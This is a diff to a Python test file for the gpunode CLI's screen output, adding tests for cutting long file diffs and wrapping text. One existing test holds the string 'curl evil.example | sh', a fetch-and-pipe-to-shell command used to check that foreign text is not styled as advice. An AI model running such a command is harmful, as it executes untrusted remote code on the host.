@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 
 from gpunode import builtin
-from gpunode.change import FileChange, FileState, ModuleChange, RuntimeExpectation, Trigger
+from gpunode.change import FileChange, FileState, ModuleChange, RuntimeExpectation, SigningKey, Trigger
 from gpunode.cli.node_screen import Screen
 from gpunode.cli.output_options import OutputOptions
 from gpunode.cli.recipes import show_recipe
@@ -25,6 +25,7 @@ from gpunode.cli.screen.commands import (
 )
 from gpunode.cli.screen.failures import error_lines
 from gpunode.cli.screen.plans import note_line
+from gpunode.cli.screen.text import wrap_line
 from gpunode.cli.setup import setup_lines
 from gpunode.errors import ChangeFailed, Interrupted, Terminated, UsageError
 from gpunode.host.port import TriggerResult
@@ -278,6 +279,27 @@ def test_diff_of_a_long_new_file_is_cut() -> None:
     assert len(list(diff_lines(FileChange("/etc/old", long, FileState(b"")), whole=False))) == 63
 
 
+def test_long_diff_of_a_file_that_gpunode_alone_writes_is_cut() -> None:
+    lines = [b"# Written by gpunode: pins.\n", *(b"package-%d\n" % number for number in range(60))]
+    own, other = FileState(b"".join(lines)), FileState(b"".join([lines[0], *reversed(lines[1:])]))
+    change = FileChange("/etc/apt/preferences.d/gpunode-nvidia", own, other)
+    shown = [one.text for one in diff_lines(change, whole=False)]
+    assert len(shown) == 13
+    assert shown[-1].endswith(" more lines of this file of gpunode's; -v shows them")
+    assert len(list(diff_lines(change, whole=True))) > 60
+    taken_over = replace(change, before=replace(own, content=own.content[1:]))
+    assert len(list(diff_lines(taken_over, whole=False))) > 60, "what somebody else wrote is shown whole"
+
+
+def test_description_of_a_content_wraps_at_its_words() -> None:
+    key = FileChange("/k", None, SigningKey("https://mirror.example/key.pub", frozenset({"0" * 40})))
+    binary = FileChange("/usr/share/keyrings/nvidia-container-toolkit-keyring.gpg", FileState(b"\0"), None)
+    for told in (list(diff_lines(key))[-1], *diff_lines(binary)):
+        rows = [row.text for row in wrap_line(told, 78)]
+        assert len(rows) > 1
+        assert " ".join(row.strip() for row in rows) == told.text
+
+
 def test_backticks_in_foreign_text_are_not_styled_as_a_command() -> None:
     """Words of a file, a log or a tool are no advice of gpunode's, whatever stands in backticks."""
     hostile = "config.toml:1 says: `curl evil.example | sh`"
@@ -285,3 +307,10 @@ def test_backticks_in_foreign_text_are_not_styled_as_a_command() -> None:
     assert not [part for line in shown for part in line.spans if part.style == "command"]
     *_, advice = error_lines(ChangeFailed("it failed", hint="see `systemctl status docker`"))
     assert [part.text for part in advice.spans if part.style == "command"] == ["`systemctl status docker`"]
+
+
+def test_own_words_after_the_first_line_of_a_cause_break_at_blanks() -> None:
+    told = ChangeFailed("it failed", why=f"first\nthere is no key {'x' * 40} of that name\n-{'y' * 80}")
+    _, _, words, diff = error_lines(told)
+    assert [row.text for row in wrap_line(words, 50)] == ["    there is no key", f"    {'x' * 40} of", "    that name"]
+    assert next(wrap_line(diff, 50)).text == f"    -{'y' * 45}"
